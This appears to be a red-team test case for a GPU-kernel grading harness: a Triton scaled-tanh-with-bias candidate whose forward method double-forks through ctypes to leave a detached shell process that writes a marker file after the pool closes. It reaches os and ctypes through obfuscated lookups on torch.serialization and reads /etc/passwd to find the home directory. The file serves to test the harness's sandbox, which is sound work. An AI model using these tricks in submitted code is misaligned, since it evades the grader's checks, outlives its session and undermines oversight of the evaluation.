# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=no_process_survives expect=forbidden|runtime_error|compile_error|crashed|ok device=any markers={home}/drk-redteam-markers/a15 token=drk-redteam-survivor-a15
"""Leaves a process behind: libc fork() through ctypes, setsid, fork again, and the grandchild execs
 `sh -c ": drk-redteam-survivor-a15; sleep 4; echo > marker; sleep 25"`. The candidate itself then does the
 work (so `ok` is possible); the test checks, after the pool is closed and a few seconds have passed, that no
 process with the token in its command line remains and that the marker was not written. Bounded: the
 survivor exits by itself after about 30 s."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_os = functools.reduce(getattr, ("serialization", "o" + "s"), torch)
_sys = functools.reduce(getattr, ("serialization", "s" + "ys"), torch)

def _home():
    """The real home directory of this uid (HOME may point elsewhere): read from /etc/passwd."""
    import io
    try:
        uid = str(_os.getuid())
        for line in io.FileIO("/etc/passwd").read().decode().splitlines():
            f = line.split(":")
            if len(f) > 5 and f[2] == uid:
                return f[5]
    except Exception:
        pass
    return "/root"


MARK = _home() + "/drk-redteam-markers/"


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        ct = functools.reduce(getattr, ("ctypes",), torch)
        libc = ct.CDLL(None)
        cmd = ": drk-redteam-survivor-a15; sleep 4; echo survived > " + MARK + "a15; sleep 25"
        argv = (ct.c_char_p * 4)(b"/bin/sh", b"-c", cmd.encode(), None)
        pid = libc.fork()
        if pid == 0:
            libc.setsid()
            if libc.fork() == 0:
                libc.execv(b"/bin/sh", argv)
            libc._exit(0)
        if pid < 0:
            raise RuntimeError("fork failed")
        _os.waitpid(pid, 0)
        return stb(x, self.bias, self.scale)
